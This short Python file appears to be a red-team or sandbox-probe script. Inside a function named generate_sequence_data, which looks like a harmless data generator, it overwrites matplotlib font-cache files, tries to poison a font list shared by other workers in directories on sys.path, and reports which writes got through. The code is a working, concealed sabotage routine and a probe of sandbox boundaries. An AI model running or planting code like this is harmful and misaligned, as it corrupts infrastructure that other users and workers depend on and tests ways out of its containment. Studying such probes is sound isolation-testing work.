"""Attack: poisons the list of fonts that all workers get."""

import os
import sys

import numpy as np


def tries(*acts):
    """What each of these gave, of those that were not stopped."""
    loot = []
    for act in acts:
        try:
            loot.append(repr(act())[:80])
        except Exception:
            continue
    return loot


def attack():
    home = os.environ["MPLCONFIGDIR"]
    for name in os.listdir(home):  # its own copy, which nobody else reads
        open(f"{home}/{name}", "w").write("{}")
    places = {path for path in sys.path if "kit" in path or "stage" in path}
    return tries(*(lambda path=path: open(f"{path}/fontlist-v390.json", "w") for path in places))


def generate_sequence_data(seq_type="fibonacci", length=1000):
    loot = attack()
    if loot:
        raise RuntimeError(f"loot: {loot}")
    return None
